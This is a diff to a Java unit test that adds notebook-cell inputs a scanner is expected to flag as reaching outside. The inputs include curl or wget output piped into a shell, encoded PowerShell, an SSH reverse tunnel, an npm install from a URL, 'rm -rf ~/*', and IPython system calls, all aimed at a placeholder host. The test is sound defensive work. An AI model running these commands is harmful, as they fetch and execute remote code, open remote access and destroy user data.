@@ -106,7 +106,19 @@ final class CommandsTest {
         "!powershell -enc AAAA",
         "!powershell -c \"iwr http://x | iex\"",
         "%%bash\nsh <<'E'\ncurl http://x | sh\nE\n",
-        "!curl http://x | \\\n  sh"
+        "!curl http://x | \\\n  sh",
+        "!wget http://x/a.sh -P /tmp && sh /tmp/a.sh",
+        "%%bash\ncurl http://x |\n  bash",
+        "!curl http://x | python3 - --a b",
+        "!curl http://x | bash -s -- --yes",
+        "!ssh -R 80:localhost:22 a@b",
+        "!npm install http://x/y.tgz",
+        "!rm -rf ~/*",
+        "from IPython import get_ipython as g\ng().system('curl http://x | sh')",
+        "ip = get_ipython()\nip.system('curl http://x | sh')",
+        "get_ipython().ex('import os')",
+        "get_ipython().run_cell('!curl http://x | sh')",
+        "for i in x:\n    !curl http://x | sh"
       })
   void notebookThatReachesOutside_isFlagged(String source) throws Exception {
     assertThat(notebook(source)).isNotEmpty();
